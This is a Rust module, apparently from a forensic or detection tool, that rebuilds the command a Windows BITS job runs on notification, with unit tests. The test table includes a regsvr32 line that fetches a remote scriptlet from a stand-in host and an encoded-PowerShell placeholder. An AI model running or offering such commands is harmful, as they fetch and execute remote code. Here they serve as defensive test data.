//! The command that BITS runs behind a job.

/// The command as it is started. BITS takes the program and its command line apart (Microsoft: `SetNotifyCmdLine`), and the line begins with
/// the program once more, or as many write it does not.
pub(crate) fn command(program: &str, parameters: &str) -> String {
    let (program, parameters) = (program.trim(), parameters.trim());
    // `bitsadmin` is told so that there are none.
    if parameters.is_empty() || parameters.eq_ignore_ascii_case("NULL") {
        return quoted(program);
    }
    if program.is_empty() {
        return parameters.to_owned();
    }
    let (first, rest) = match parameters.strip_prefix('"') {
        Some(inner) => inner.split_once('"').unwrap_or((inner, "")),
        None => parameters.split_once(char::is_whitespace).unwrap_or((parameters, "")),
    };
    let rest = if is_same(first, program) { rest.trim_start() } else { parameters };
    format!("{} {rest}", quoted(program)).trim_end().to_owned()
}

/// Whether a word names the program: by its path, its name, or its name without what it ends in.
fn is_same(word: &str, program: &str) -> bool {
    let word = word.to_lowercase();
    let program = program.trim_matches('"').to_lowercase();
    let name = program.rsplit(['\\', '/']).next().unwrap_or_default();
    word == program || word == name || name.strip_suffix(".exe") == Some(word.as_str())
}

fn quoted(program: &str) -> String {
    if program.contains(char::is_whitespace) && !program.starts_with('"') {
        format!("\"{program}\"")
    } else {
        program.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::command;

    #[test]
    fn the_program_stands_before_its_parameters_once() {
        for (program, parameters, expected) in [
            ("", "", ""),
            (r"C:\a.exe", "", r"C:\a.exe"),
            (r"C:\a b\c.exe", "NULL", r#""C:\a b\c.exe""#),
            (r"C:\a.exe", r"C:\a.exe -x", r"C:\a.exe -x"),
            (r"C:\a b.exe", r#""C:\a b.exe" -x "y z""#, r#""C:\a b.exe" -x "y z""#),
            ("cmd.exe", "cmd /c start a", "cmd.exe /c start a"),
            (r"C:\Windows\System32\cmd.exe", "/c start a", r"C:\Windows\System32\cmd.exe /c start a"),
            ("regsvr32.exe", "/s /u /i:http://x/y scrobj.dll", "regsvr32.exe /s /u /i:http://x/y scrobj.dll"),
            ("", "powershell -enc AAAA", "powershell -enc AAAA"),
            ("a.exe", "\"a.exe", "a.exe"),
        ] {
            assert_eq!(command(program, parameters), expected, "{program} {parameters}");
        }
    }
}
